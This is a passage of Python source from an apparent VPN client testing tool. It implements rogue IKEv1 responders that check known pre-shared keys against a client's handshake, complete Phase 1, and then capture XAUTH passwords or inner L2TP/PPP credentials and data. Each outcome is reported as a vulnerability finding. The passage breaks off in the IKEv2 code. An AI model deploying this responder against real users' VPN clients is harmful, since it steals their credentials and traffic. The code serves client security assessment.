"""IKE responders: IKEv2 any-identity acceptance, IKEv1 known-PSK completion
for L2TP/IPsec and Cisco IPsec (XAUTH), and inner L2TP/PPP capture.

The responders are written as straight-line exchanges over one UDP socket
(``IkeChannel``): wait for the next request of the SA, answer it, move on.
Retransmitted requests get the previous answer again.
"""

from __future__ import annotations

import enum
import ipaddress
import logging
import struct
import time
from dataclasses import dataclass
from importlib import resources
from typing import Iterable, Optional

from . import auth, crypto, ike, l2tp, packets, ppp, tlsutil
from .core import (CertificateMaterial, Credentials, Direction, Finding, ProbeError, Randomness, Transcript,
                   TrustRole, Verdict, VulnClass)
from .ike import IkeChannel, IkeError, Payload
from .net import bind_udp, close_quietly, ready_line

log = logging.getLogger(__name__)

IKE_PORT = 500
MAX_CANDIDATES = 10_000

VID_XAUTH = bytes.fromhex("09002689dfd6b712")
VID_NAT_T = bytes.fromhex("4a131c81070358455c5728f20e95452f")


# ---------------------------------------------------------------- PSK candidates


@dataclass(frozen=True)
class PskCandidate:
    key: bytes
    label: str = "operator"


class PskCandidateList:
    """Ordered, duplicate-free candidate keys.  More than 10,000 entries
    need ``allow_large=True``."""

    def __init__(self, candidates: Iterable, allow_large: bool = False):
        seen, out = set(), []
        for c in candidates:
            if isinstance(c, (str, bytes)):
                c = PskCandidate(c.encode() if isinstance(c, str) else c)
            if c.key in seen:
                continue
            seen.add(c.key)
            out.append(c)
        if not out:
            raise ValueError("PSK candidate list is empty")
        if len(out) > MAX_CANDIDATES and not allow_large:
            raise ValueError(f"{len(out)} PSK candidates exceed the cap of {MAX_CANDIDATES}; "
                             "pass allow_large to override")
        self.candidates = tuple(out)

    def __iter__(self):
        return iter(self.candidates)

    def __len__(self) -> int:
        return len(self.candidates)

    @staticmethod
    def parse_lines(lines: Iterable[str], default_label: str = "operator") -> list[PskCandidate]:
        out = []
        for line in lines:
            line = line.rstrip("\r\n")
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            if ":" in line:
                label, _, key = line.partition(":")
                label = label.strip() or default_label
            else:
                label, key = default_label, line
            key = key.strip()
            if key:
                out.append(PskCandidate(key.encode(), label))
        return out

    @classmethod
    def from_file(cls, path: str, allow_large: bool = False, default_label: str = "operator") -> "PskCandidateList":
        with open(path, encoding="utf-8") as fh:
            return cls(cls.parse_lines(fh, default_label), allow_large)

    @classmethod
    def public_defaults(cls) -> "PskCandidateList":
        text = resources.files("vpnprobe").joinpath("data/public_psks.txt").read_text(encoding="utf-8")
        return cls(cls.parse_lines(text.splitlines(), "public-default"))

    def plus(self, other: Iterable) -> "PskCandidateList":
        return PskCandidateList(list(self.candidates) + list(other), allow_large=True)


# ---------------------------------------------------------------- shared plumbing


class PeerGone(Exception):
    """The client deleted the SA or reported an error notification."""

    def __init__(self, reason: str, notify: Optional[int] = None):
        super().__init__(reason)
        self.notify = notify


class ExchangeTimeout(Exception):
    pass


@dataclass
class IkeSaMaterial:
    spi_i: bytes
    spi_r: bytes
    ni: bytes
    nr: bytes
    group: int
    shared: bytes
    keys: object = None


def _ipv4_of(addr) -> str:
    try:
        return str(ipaddress.IPv4Address(addr[0]))
    except (ValueError, TypeError):
        return "127.0.0.1"


# ================================================================ IKEv1


class Ikev1Mode(str, enum.Enum):
    L2tp = "L2tp"
    CiscoXauth = "CiscoXauth"


class Ikev1Session:
    """Responder side of one IKEv1 SA."""

    def __init__(self, chan: IkeChannel, transcript: Transcript, rng: Randomness, mode: Ikev1Mode,
                 identity: str = "vpn.example.com", phase_timeout: float = 10.0):
        self.chan, self.tr, self.rng = chan, transcript, rng
        self.mode = Ikev1Mode(mode)
        self.identity = identity
        self.phase_timeout = phase_timeout
        self.cky_i = b""
        self.cky_r = rng.bytes(8)
        self.transform: Optional[ike.V1Transform] = None
        self.proposal_dump: list[str] = []
        self.sai_b = b""
        self.dh = None
        self.gxi = self.gxr = self.gxy = b""
        self.ni = self.nr = b""
        self.keys: Optional[ike.V1Keys] = None
        self.matched: list[PskCandidate] = []
        self.tried = 0
        self.phase1_done = False
        self.p1_last_block = b""
        self._iv: dict[int, bytes] = {}
        self._last_in: Optional[bytes] = None
        self._last_out: Optional[bytes] = None
        self.refs: dict[str, str] = {}
        self.esp_queue: list[bytes] = []
        self.xauth_credentials: Optional[Credentials] = None
        self.esp_in: Optional[ike.EspSa] = None
        self.esp_out: Optional[ike.EspSa] = None

    @property
    def material(self) -> IkeSaMaterial:
        return IkeSaMaterial(self.cky_i, self.cky_r, self.ni, self.nr, self.transform.group if self.transform else 0,
                             self.gxy, self.keys)

    # -- I/O

    def _send(self, msg: bytes, summary: str) -> None:
        self._last_out = msg
        self.tr.record(Direction.ProbeToClient, "ike", summary, plaintext=False, raw=msg)
        self.chan.send_ike(msg)

    def _header(self, exchange: int, msg_id: int = 0, flags: int = 0) -> ike.Header:
        return ike.Header(self.cky_i, self.cky_r, 0, ike.VERSION_1, exchange, flags, msg_id)

    def _iv_for(self, msg_id: int) -> bytes:
        if msg_id not in self._iv:
            self._iv[msg_id] = ike.v1_exchange_iv(self.transform, self.p1_last_block, msg_id)
        return self._iv[msg_id]

    def _encrypt(self, exchange: int, msg_id: int, payloads: list[Payload]) -> bytes:
        msg, nxt = ike.v1_encrypted_message(self._header(exchange, msg_id), payloads, self.transform,
                                            self.keys.enc_key, self._iv_for(msg_id))
        self._iv[msg_id] = nxt
        return msg

    def _decrypt(self, hdr: ike.Header, raw: bytes) -> list[Payload]:
        body = raw[ike.HEADER_LEN:hdr.length]
        if not hdr.flags & ike.FLAG_V1_ENCRYPTED:
            return ike.unchain(hdr.next_payload, body)
        if self.keys is None:
            raise IkeError("encrypted message before keys exist")
        plain, nxt = ike.v1_decrypt(self.transform, self.keys.enc_key, self._iv_for(hdr.msg_id), body)
        self._iv[hdr.msg_id] = nxt
        return ike.unchain(hdr.next_payload, plain)

    def next_message(self, timeout: Optional[float] = None, exchanges: tuple = (),
                     want_esp: bool = False) -> tuple[Optional[ike.Header], bytes]:
        """Next new IKE message for this SA; ESP is queued (and returned as
        ``(None, packet)`` with ``want_esp``), retransmissions are answered,
        informational messages raise ``PeerGone``."""
        deadline = time.monotonic() + (self.phase_timeout if timeout is None else timeout)
        while True:
            left = deadline - time.monotonic()
            got = self.chan.recv(max(left, 0)) if left > 0 else None
            if got is None:
                raise ExchangeTimeout()
            kind, data = got
            if kind == "esp":
                self.esp_queue.append(data)
                if want_esp:
                    return None, data
                continue
            try:
                hdr = ike.Header.decode(data)
            except IkeError as exc:
                self.tr.record(Direction.ClientToProbe, "ike", f"malformed message dropped: {exc}", plaintext=False)
                continue
            if hdr.version >> 4 != 1 or (self.cky_i and hdr.spi_i != self.cky_i):
                continue
            if data == self._last_in and self._last_out is not None:
                self.chan.send_ike(self._last_out)
                continue
            self._last_in = data
            if hdr.exchange == ike.EX_INFO_V1:
                self._informational(hdr, data)
                continue
            if exchanges and hdr.exchange not in exchanges:
                self.tr.record(Direction.ClientToProbe, "ike", f"unexpected exchange {hdr.exchange} ignored",
                               plaintext=False, raw=data)
                continue
            return hdr, data

    def _informational(self, hdr: ike.Header, data: bytes) -> None:
        try:
            payloads = self._decrypt(hdr, data)
        except IkeError as exc:
            self.tr.record(Direction.ClientToProbe, "ike", f"undecryptable informational: {exc}", plaintext=False)
            return
        for p in payloads:
            if p.ptype == ike.P1_N:
                mtype, _ = ike.v1_parse_notify(p.body)
                ref = self.tr.record(Direction.ClientToProbe, "ike", f"Informational: notify {mtype}",
                                     plaintext=False, raw=data)
                self.refs["client_notify"] = ref
                if mtype < 16384:
                    raise PeerGone(f"client reported error notification {mtype}", mtype)
            elif p.ptype == ike.P1_D:
                self.refs["client_delete"] = self.tr.record(Direction.ClientToProbe, "ike", "Informational: Delete",
                                                            plaintext=False, raw=data)
                raise PeerGone("client deleted the SA")

    def _notify_plain(self, mtype: int) -> None:
        msg = ike.v1_message(self._header(ike.EX_INFO_V1, self.rng.randint(1, 0x7FFFFFFF)),
                             [Payload(ike.P1_N, ike.v1_notify_body(mtype, self.cky_i + self.cky_r))])
        self._send(msg, f"Informational notify {mtype}")

    # -- Main Mode

    def main_mode(self, first: bytes, candidates: PskCandidateList) -> str:
        """Runs Main Mode from the client's first message.  Returns one of
        matched, no-psk-match, cert-auth, no-proposal."""
        hdr = ike.Header.decode(first)
        self.cky_i = hdr.spi_i
        self._last_in = first
        payloads = ike.unchain(hdr.next_payload, first[ike.HEADER_LEN:hdr.length])
        sa = ike.find(payloads, ike.P1_SA)
        if sa is None:
            raise IkeError("first Main Mode message without SA")
        self.sai_b = sa.body
        vids = [p.body.hex() for p in ike.find_all(payloads, ike.P1_VID)]
        self.refs["mm1"] = self.tr.record(Direction.ClientToProbe, "ike",
                                          f"Main Mode 1: SA offer, {len(vids)} vendor IDs", plaintext=False, raw=first)
        proposals = ike.v1_parse_sa(sa.body)
        t, offered, dump = ike.v1_select_transform(proposals)
        self.proposal_dump = dump
        if t is None:
            offered_auth = {dict(a).get(ike.A_AUTH) for p in proposals for _, _, a in p.transforms}
            self.refs["proposal"] = self.tr.record(Direction.LocalObservation, "ike",
                                                   "no acceptable transform: " + "; ".join(dump), plaintext=False)
            self._notify_plain(ike.N_NO_PROPOSAL_CHOSEN_V1)
            if offered_auth and offered_auth <= {ike.AUTH_RSA_SIG}:
                return "cert-auth"
            return "no-proposal"
        self.transform = t
        tnum, tid, attrs = offered
        chosen = ike.v1_sa_body([], attr_lists=[attrs], transform_ids=[tid])
        out = [Payload(ike.P1_SA, chosen), Payload(ike.P1_VID, VID_NAT_T)]
        if self.mode is Ikev1Mode.CiscoXauth:
            out.append(Payload(ike.P1_VID, VID_XAUTH))
        self._send(ike.v1_message(self._header(ike.EX_MAIN), out), f"Main Mode 2: chose {t.describe()}")

        hdr, raw = self.next_message(exchanges=(ike.EX_MAIN,))
        payloads = self._decrypt(hdr, raw)
        ke, nonce = ike.find(payloads, ike.P1_KE), ike.find(payloads, ike.P1_NONCE)
        if ke is None or nonce is None:
            raise IkeError("Main Mode 3 lacks KE or nonce")
        self.gxi, self.ni = ke.body, nonce.body
        self.tr.record(Direction.ClientToProbe, "ike", f"Main Mode 3: KE ({len(ke.body)} bytes), Ni",
                       plaintext=False, raw=raw)
        self.dh = crypto.DhKeyPair(t.group, self.rng)
        self.gxr, self.nr = self.dh.public, self.rng.bytes(32)
        self.gxy = self.dh.shared(self.gxi)
        self._send(ike.v1_message(self._header(ike.EX_MAIN), [Payload(ike.P1_KE, self.gxr),
                                                               Payload(ike.P1_NONCE, self.nr)]),
                   "Main Mode 4: KE, Nr")

        hdr, raw = self.next_message(exchanges=(ike.EX_MAIN,))
        if not hdr.flags & ike.FLAG_V1_ENCRYPTED:
            raise IkeError("Main Mode 5 not encrypted")
        self.refs["mm5"] = self.tr.record(Direction.ClientToProbe, "ike", "Main Mode 5: encrypted IDii, HASH_I",
                                          plaintext=False, raw=raw)
        ct = raw[ike.HEADER_LEN:hdr.length]
        iv0 = ike.v1_phase1_iv(t, self.gxi, self.gxr)
        found = self.try_candidates(candidates, hdr.next_payload, ct, iv0)
        if not found:
            self.refs["psk"] = self.tr.record(
                Direction.LocalObservation, "ike",
                f"NoPskMatch: none of {self.tried} candidate keys verifies HASH_I", plaintext=False)
            self._notify_plain(ike.N_AUTHENTICATION_FAILED_V1)
            return "no-psk-match"
        cand, keys, idii = found
        self.keys = keys
        self.refs["psk"] = self.tr.record(
            Direction.LocalObservation, "ike",
            f"pre-shared key matched: {cand.key.decode('latin-1')!r} (label {cand.label}); "
            f"{len(self.matched)} of {self.tried} candidates verify; client ID {ike.id_value(idii)}", plaintext=False)
        iv = ct[-t.block:]
        idir = ike.id_body(ike.ID_FQDN, self.identity.encode())
        hash_r = ike.v1_hash_r(keys, self.gxi, self.gxr, self.cky_i, self.cky_r, self.sai_b, idir)
        msg, last = ike.v1_encrypted_message(self._header(ike.EX_MAIN), [Payload(ike.P1_ID, idir),
                                                                         Payload(ike.P1_HASH, hash_r)],
                                             t, keys.enc_key, iv)
        self.p1_last_block = last
        self._send(msg, "Main Mode 6: IDir, HASH_R")
        self.phase1_done = True
        self.refs["phase1"] = self.tr.last_ref()
        return "matched"

    def try_candidates(self, candidates: PskCandidateList, first_payload: int, ct: bytes, iv0: bytes):
        """Exhaustive: every candidate is checked so the match count is exact."""
        t = self.transform
        first = None
        for cand in candidates:
            self.tried += 1
            skeyid = ike.v1_skeyid_psk(t.hash, cand.key, self.ni, self.nr)
            keys = ike.v1_derive(t, skeyid, self.gxy, self.cky_i, self.cky_r)
            try:
                plain, _ = ike.v1_decrypt(t, keys.enc_key, iv0, ct)
                payloads = ike.unchain(first_payload, plain)
            except (IkeError, ValueError):
                continue
            idp, hp = ike.find(payloads, ike.P1_ID), ike.find(payloads, ike.P1_HASH)
            if idp is None or hp is None:
                continue
            expected = ike.v1_hash_i(keys, self.gxi, self.gxr, self.cky_i, self.cky_r, self.sai_b, idp.body)
            if crypto.constant_time_equal(hp.body, expected):
                self.matched.append(cand)
                if first is None:
                    first = (cand, keys, idp.body)
        return first

    # -- helpers for protected exchanges

    def _hash1(self, msg_id: int, rest: list[Payload]) -> bytes:
        return ike.prf(self.keys.hash, self.keys.a, struct.pack("!I", msg_id) + ike.v1_hash_payload_data(rest))

    def send_protected(self, exchange: int, msg_id: int, rest: list[Payload], summary: str) -> None:
        h = self._hash1(msg_id, rest)
        self._send(self._encrypt(exchange, msg_id, [Payload(ike.P1_HASH, h)] + rest), summary)

    def recv_protected(self, exchange: int, timeout: Optional[float] = None) -> tuple[ike.Header, list[Payload]]:
        hdr, raw = self.next_message(timeout, exchanges=(exchange,))
        payloads = self._decrypt(hdr, raw)
        if not payloads or payloads[0].ptype != ike.P1_HASH:
            raise IkeError("protected message does not start with HASH")
        return hdr, payloads


def capture_xauth(session: Ikev1Session, challenge: bool = False, timeout: Optional[float] = None
                  ) -> Optional[Credentials]:
    """Ask for XAUTH credentials inside the Phase-1 SA.  Returns what the
    client submitted, or None when it declines."""
    if not session.phase1_done:
        raise ProbeError("XAUTH needs a completed Phase 1")
    tr = session.tr
    msg_id = session.rng.randint(1, 0x7FFFFFFF)
    ident = session.rng.randint(1, 0xFFFF)
    if challenge:
        chal = session.rng.bytes(8).hex().encode()
        attrs = [(ike.XAUTH_TYPE, ike.XAUTH_TYPE_OTP), (ike.XAUTH_USER_NAME, b""), (ike.XAUTH_PASSCODE, b""),
                 (ike.XAUTH_CHALLENGE, chal)]
        summary = f"Transaction: XAUTH challenge request ({chal.decode()})"
    else:
        attrs = [(ike.XAUTH_TYPE, ike.XAUTH_TYPE_GENERIC), (ike.XAUTH_USER_NAME, b""), (ike.XAUTH_USER_PASSWORD, b"")]
        summary = "Transaction: XAUTH username/password request"
    session.send_protected(ike.EX_TRANSACTION, msg_id,
                           [Payload(ike.P1_ATTR, ike.cfg_attr_body(ike.CFG_REQUEST, ident, attrs))], summary)
    try:
        hdr, payloads = session.recv_protected(ike.EX_TRANSACTION, timeout)
    except PeerGone as exc:
        session.refs["xauth"] = tr.record(Direction.LocalObservation, "ike", f"client declined XAUTH: {exc}",
                                          plaintext=False)
        return None
    except ExchangeTimeout:
        session.refs["xauth"] = tr.record(Direction.LocalObservation, "ike", "no XAUTH reply", plaintext=False)
        return None
    if not crypto.constant_time_equal(payloads[0].body, session._hash1(hdr.msg_id, payloads[1:])):
        raise IkeError("XAUTH reply HASH does not verify")
    attr = ike.find(payloads, ike.P1_ATTR)
    cfg_type, _, got = ike.parse_cfg_attr(attr.body) if attr else (0, 0, {})
    user = got.get(ike.XAUTH_USER_NAME, b"")
    secret = got.get(ike.XAUTH_PASSCODE if challenge else ike.XAUTH_USER_PASSWORD, b"")
    if cfg_type != ike.CFG_REPLY or not isinstance(user, bytes) or not isinstance(secret, bytes) or not user:
        session.refs["xauth"] = tr.record(Direction.ClientToProbe, "ike", "XAUTH reply without credentials",
                                          plaintext=False)
        return None
    creds = Credentials(user.decode("utf-8", "replace"), secret.decode("utf-8", "replace"))
    what = "passcode response" if challenge else "password"
    session.refs["xauth"] = tr.record(Direction.ClientToProbe, "ike",
                                      f"XAUTH credentials captured: user={creds.username!r} {what}={creds.password!r}",
                                      plaintext=False)
    session.xauth_credentials = creds
    set_id = session.rng.randint(1, 0x7FFFFFFF)
    session.send_protected(ike.EX_TRANSACTION, set_id,
                           [Payload(ike.P1_ATTR, ike.cfg_attr_body(ike.CFG_SET, ident, [(ike.XAUTH_STATUS, 1)]))],
                           "Transaction: XAUTH status OK")
    try:
        session.recv_protected(ike.EX_TRANSACTION, min(session.phase_timeout, 2.0))
    except (ExchangeTimeout, PeerGone):
        pass
    return creds


def _quick_mode(session: Ikev1Session) -> tuple[ike.EspSuite, bytes, bytes]:
    """Responds to the client's Quick Mode; installs transport-mode ESP."""
    hdr, payloads = session.recv_protected(ike.EX_QUICK)
    rest = payloads[1:]
    if not crypto.constant_time_equal(payloads[0].body, session._hash1(hdr.msg_id, rest)):
        raise IkeError("Quick Mode HASH(1) does not verify")
    sa, nonce = ike.find(rest, ike.P1_SA), ike.find(rest, ike.P1_NONCE)
    if sa is None or nonce is None:
        raise IkeError("Quick Mode 1 lacks SA or nonce")
    ids = ike.find_all(rest, ike.P1_ID)
    suite = spi_i = None
    dump = []
    for prop in ike.v1_parse_sa(sa.body):
        if prop.protocol != ike.PROTO_ESP:
            continue
        for tnum, tid, attrs in prop.transforms:
            try:
                s = ike.EspSuite.from_v1(tid, attrs)
            except IkeError as exc:
                dump.append(str(exc))
                continue
            suite, spi_i, chosen = s, prop.spi, (tid, attrs)
            break
        if suite:
            break
    if suite is None:
        raise IkeError("no acceptable ESP transform: " + "; ".join(dump))
    ni_b, nr_b = nonce.body, session.rng.bytes(32)
    spi_r = session.rng.bytes(4)
    session.refs["quick1"] = session.tr.record(Direction.ClientToProbe, "ike",
                                               f"Quick Mode 1: ESP {suite.describe()} SPI {spi_i.hex()}",
                                               plaintext=False)
    sa_r = ike.v1_sa_body([], spi=spi_r, protocol=ike.PROTO_ESP, transform_ids=[chosen[0]], attr_lists=[chosen[1]])
    body = [Payload(ike.P1_SA, sa_r), Payload(ike.P1_NONCE, nr_b)] + [Payload(ike.P1_ID, p.body) for p in ids]
    h2 = ike.prf(session.keys.hash, session.keys.a,
                 struct.pack("!I", hdr.msg_id) + ni_b + ike.v1_hash_payload_data(body))
    session._send(session._encrypt(ike.EX_QUICK, hdr.msg_id, [Payload(ike.P1_HASH, h2)] + body),
                  f"Quick Mode 2: SPI {spi_r.hex()}")
    hdr3, p3 = session.recv_protected(ike.EX_QUICK)
    h3 = ike.prf(session.keys.hash, session.keys.a, b"\x00" + struct.pack("!I", hdr.msg_id) + ni_b + nr_b)
    if not crypto.constant_time_equal(p3[0].body, h3):
        raise IkeError("Quick Mode HASH(3) does not verify")
    n = ike.EspSa.keymat_len(suite)
    session.esp_in = ike.EspSa.from_keymat(spi_r, suite, ike.v1_keymat(session.keys, ike.PROTO_ESP, spi_r, ni_b, nr_b, n))
    session.esp_out = ike.EspSa.from_keymat(spi_i, suite,
                                            ike.v1_keymat(session.keys, ike.PROTO_ESP, spi_i, ni_b, nr_b, n))
    session.refs["quick"] = session.tr.record(Direction.LocalObservation, "esp",
                                              f"transport-mode ESP installed ({suite.describe()})", plaintext=False)
    return suite, spi_i, spi_r


def _udp_payload(packet: bytes) -> tuple[int, int, bytes]:
    if len(packet) < 8:
        raise IkeError("UDP header truncated")
    sport, dport, length, _ = struct.unpack("!HHHH", packet[:8])
    return sport, dport, packet[8:length] if 8 <= length <= len(packet) else packet[8:]


def _udp_header(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def l2tp_inner_capture(session: Ikev1Session, ppp_config: Optional[ppp.PppServerConfig] = None,
                       capture_window: float = 30.0, timeout: float = 60.0,
                       target: str = "l2tp-client") -> tuple[Finding, Transcript]:
    """After a matched Phase 1: Quick Mode, L2TP tunnel/session and the
    inner PPP link, recording what the client sends in the clear inside."""
    if not session.phase1_done:
        raise ProbeError("L2TP capture needs a completed Phase 1")
    tr = session.tr
    cfg = ppp_config or ppp.PppServerConfig(ppp.AuthMethod.PAP, None, ppp.CcpOffer.NoEncryption, adaptive_auth=True,
                                            phase_timeout=session.phase_timeout)
    ended = "session-timeout"
    pppsess = ppp.PppServerSession(cfg, tr, session.rng, outer_encrypted=True)
    ev = {}

    def on_event(name, msg):
        ev.setdefault(name, tr.record(Direction.ClientToProbe, "l2tp", f"L2TP {name}", plaintext=False))

    lns = l2tp.L2tpLns(session.rng, on_session=pppsess.start, on_ppp=pppsess.receive, on_event=on_event)
    try:
        _quick_mode(session)
        deadline = time.monotonic() + timeout
        capture_until = None
        while time.monotonic() < deadline:
            if capture_until and time.monotonic() >= capture_until:
                ended = "capture-window-elapsed"
                break
            while not session.esp_queue:
                try:
                    session.next_message(timeout=0.2, want_esp=True)
                except ExchangeTimeout:
                    break
            pppsess.check_timeout()
            if pppsess.done:
                ended = f"ppp ended: {pppsess.outcome.value}"
                break
            while session.esp_queue:
                pkt = session.esp_queue.pop(0)
                try:
                    nh, inner = session.esp_in.decrypt(pkt)
                    if nh != 17:
                        continue
                    sport, dport, data = _udp_payload(inner)
                    replies = lns.receive(data)
                except (IkeError, l2tp.L2tpError) as exc:
                    tr.record(Direction.ClientToProbe, "esp", f"dropped: {exc}", plaintext=False)
                    continue
                for r in replies:
                    iv = session.rng.bytes(crypto.block_size(session.esp_out.suite.encr))
                    session.chan.send_esp(session.esp_out.encrypt(17, _udp_header(dport, sport, r), iv))
            if pppsess.data_frames and capture_until is None:
                capture_until = time.monotonic() + capture_window
            if lns.closed:
                ended = "client closed the L2TP tunnel"
                break
    except PeerGone as exc:
        ended = str(exc)
    except ExchangeTimeout:
        ended = "client did not start Quick Mode"
    except (IkeError, l2tp.L2tpError) as exc:
        ended = f"protocol error: {exc}"
        tr.record(Direction.LocalObservation, "probe", ended, plaintext=False)
    tr.record(Direction.LocalObservation, "probe", f"session ended: {ended}")
    evidence = [session.refs["psk"], session.refs["phase1"]]
    notes = [f"Phase 1 completed with the known key {session.matched[0].key.decode('latin-1')!r}"]
    for key in ("credentials", "chap", "mschapv2", "auth_success", "ipcp_open"):
        if key in pppsess.evidence:
            evidence.append(pppsess.evidence[key])
    if pppsess.captured_credentials:
        c = pppsess.captured_credentials
        notes.append(f"inner PAP credentials {c.username!r}/{c.password!r}")
    elif "chap" in pppsess.evidence:
        notes.append("inner CHAP-MD5 response captured")
    elif pppsess.exchange is not None:
        notes.append(f"inner MS-CHAPv2 exchange captured for {pppsess.exchange.username!r}")
    if pppsess.data_frames:
        evidence.append(pppsess.data_frames[0].ref)
        notes.append(f"{len(pppsess.data_frames)} inner data frame(s) decrypted")
    finding = Finding(VulnClass.L2tpKnownPsk, Verdict.vulnerable(evidence, "; ".join(notes)), target)
    session.inner_ppp = pppsess
    return finding, tr


class Ikev1PskProbe:
    """IKEv1 Main Mode responder that recovers a known pre-shared key."""

    name = "ikev1"

    def __init__(self, candidates: PskCandidateList, mode: Ikev1Mode = Ikev1Mode.L2tp, host: str = "127.0.0.1",
                 port: int = IKE_PORT, credentials: Optional[Credentials] = None,
                 inner_auth: ppp.AuthMethod = ppp.AuthMethod.PAP, xauth_challenge: bool = False,
                 connect_timeout: float = 30.0, phase_timeout: float = 10.0, capture_window: float = 30.0,
                 target: Optional[str] = None, rng: Optional[Randomness] = None,
                 identity: str = "vpn.example.com"):
        if not isinstance(candidates, PskCandidateList):
            candidates = PskCandidateList(candidates)
        self.candidates = candidates
        self.mode = Ikev1Mode(mode)
        self.host, self.port = host, port
        self.credentials = credentials
        self.inner_auth = ppp.AuthMethod(inner_auth)
        self.xauth_challenge = xauth_challenge
        self.connect_timeout, self.phase_timeout = connect_timeout, phase_timeout
        self.capture_window = capture_window
        self.target = target or ("l2tp-client" if self.mode is Ikev1Mode.L2tp else "cisco-client")
        self.rng = rng or Randomness()
        self.identity = identity
        self.sock = None
        self.session: Optional[Ikev1Session] = None

    @property
    def vuln_class(self) -> VulnClass:
        return VulnClass.L2tpKnownPsk if self.mode is Ikev1Mode.L2tp else VulnClass.CiscoKnownPsk

    def bind(self) -> "Ikev1PskProbe":
        self.sock = bind_udp(self.host, self.port)
        return self

    @property
    def ports(self) -> dict[str, str]:
        h, p = self.sock.getsockname()[:2]
        return {"udp": f"{h}:{p}"}

    def ready_line(self) -> str:
        return ready_line(self.name, self.ports)

    def _finding(self, verdict: Verdict) -> Finding:
        return Finding(self.vuln_class, verdict, self.target)

    def serve(self) -> tuple[Finding, Transcript]:
        if self.sock is None:
            self.bind()
        tr = Transcript(prefix="ikev1")
        chan = IkeChannel(self.sock)
        try:
            first = _wait_first(chan, tr, self.connect_timeout, 1)
            if first is None:
                return self._finding(Verdict.inconclusive(f"no IKE traffic within {self.connect_timeout}s")), tr
            sess = self.session = Ikev1Session(chan, tr, self.rng, self.mode, self.identity, self.phase_timeout)
            try:
                result = sess.main_mode(first, self.candidates)
            except ExchangeTimeout:
                return self._finding(Verdict.inconclusive("client stopped during Main Mode",
                                                          [sess.refs.get("mm1", tr.last_ref())])), tr
            except PeerGone as exc:
                return self._finding(Verdict.inconclusive(f"client left Main Mode: {exc}")), tr
            except IkeError as exc:
                return self._finding(Verdict.inconclusive(f"ProtocolError: {exc}")), tr
            if result == "no-proposal":
                return self._finding(Verdict.inconclusive(
                    "unsupported transform set offered: " + "; ".join(sess.proposal_dump), [sess.refs["proposal"]])), tr
            if result == "cert-auth":
                return self._finding(Verdict.secure("client authenticates with certificates; no pre-shared key",
                                                    [sess.refs["proposal"]])), tr
            if result == "no-psk-match":
                return self._finding(Verdict.inconclusive(
                    f"NoPskMatch: none of {sess.tried} candidates verified", [sess.refs["psk"]])), tr
            if self.mode is Ikev1Mode.L2tp:
                cfg = ppp.PppServerConfig(self.inner_auth, self.credentials, ppp.CcpOffer.NoEncryption,
                                          adaptive_auth=True, phase_timeout=self.phase_timeout)
                return l2tp_inner_capture(sess, cfg, self.capture_window,
                                          timeout=self.connect_timeout + 6 * self.phase_timeout, target=self.target)
            creds = None
            try:
                creds = capture_xauth(sess, self.xauth_challenge)
            except IkeError as exc:
                tr.record(Direction.LocalObservation, "probe", f"XAUTH failed: {exc}", plaintext=False)
            key = sess.matched[0].key.decode("latin-1")
            ev = [sess.refs["psk"], sess.refs["phase1"]]
            if creds is not None:
                ev.append(sess.refs["xauth"])
                return self._finding(Verdict.vulnerable(
                    ev, f"Phase 1 completed with the known key {key!r}; XAUTH credentials captured "
                        f"(user {creds.username!r})")), tr
            if "xauth" in sess.refs:
                ev.append(sess.refs["xauth"])
            return self._finding(Verdict.weak(
                ev, f"Phase 1 completed with the known key {key!r}; client declined XAUTH, no credentials")), tr
        finally:
            close_quietly(self.sock)


def _wait_first(chan: IkeChannel, tr: Transcript, timeout: float, version: int) -> Optional[bytes]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got = chan.recv(deadline - time.monotonic())
        if got is None:
            return None
        kind, data = got
        if kind != "ike":
            continue
        try:
            hdr = ike.Header.decode(data)
        except IkeError:
            continue
        if hdr.version >> 4 == version and hdr.spi_r == b"\x00" * 8:
            tr.record(Direction.ClientToProbe, "udp", f"IKE traffic from {chan.peer[0]}:{chan.peer[1]}",
                      plaintext=False)
            return data
        chan.peer = None
    return None


def serve_ikev1_psk(candidates, mode: Ikev1Mode = Ikev1Mode.L2tp, **kwargs) -> tuple[Finding, Transcript]:
    return Ikev1PskProbe(candidates, mode, **kwargs).serve()


# ================================================================ IKEv2


@dataclass
class ServerIdentityOffer:
    certificate: CertificateMaterial
    identity: str = ""

    def __post_init__(self):
        if not self.identity:
            self.identity = self.certificate.subject_name


def eap_mschapv2_msk(keys: auth.MppeKeySet, server_side: bool) -> bytes:
    """Server MasterReceiveKey | MasterSendKey, zero-padded to 64 bytes."""
    if server_side:
        base = keys.recv_start + keys.send_start
    else:
        base = keys.send_start + keys.recv_start
    return base + b"\x00" * 32


def mschapv2_eap_data(opcode: int, ms_id: int, body: bytes) -> bytes:
    return struct.pack("!BBH", opcode, ms_id, 4 + len(body)) + body


class Ikev2Session:
    """Responder side of one IKEv2 SA."""

    def __init__(self, chan: IkeChannel, transcript: Transcript, rng: Randomness, offer: ServerIdentityOffer,
                 credentials: Optional[Credentials], phase_timeout: float):
        self.chan, self.tr, self.rng = chan, transcript, rng
        self.offer = offer
        self.credentials = credentials
        self.phase_timeout = phase_timeout
        self.spi_i = b""
        self.spi_r = rng.bytes(8)
        self.suite: Optional[ike.V2Suite] = None
        self.keys: Optional[ike.V2Keys] = None
        self.ni = self.nr = b""
        self.msg1 = self.msg2 = b""
        self.expect_id = 0
        self._last_in: Optional[bytes] = None
        self._last_out: Optional[bytes] = None
        self.refs: dict[str, str] = {}
        self.proposal_dump: list[str] = []
        self.esp_queue: list[bytes] = []
        self.child_in: Optional[ike.EspSa] = None
        self.child_out: Optional[ike.EspSa] = None
        self.inner_ip = "10.9.1.2"
        self.gateway_ip = "10.9.1.1"
        self.exchange: Optional[auth.MsChapV2Exchange] = None
        self.msk: Optional[bytes] = None
        self.client_id = ""

    def _header(self, exchange: int, msg_id: int) -> ike.Header:
        return ike.Header(self.spi_i, self.spi_r, 0, ike.VERSION_2, exchange, ike.FLAG_V2_RESPONSE, msg_id)

    def _send(self, msg: bytes, summary: str) -> str:
        self._last_out = msg
        ref = self.tr.record(Direction.ProbeToClient, "ike", summary, plaintext=False, raw=msg)
        self.chan.send_ike(msg)
        return ref

    def respond(self, exchange: int, msg_id: int, payloads: list[Payload], summary: str) -> str:
        msg = ike.v2_sk_message(self._header(exchange, msg_id), payloads, self.suite, self.keys.sk_er,
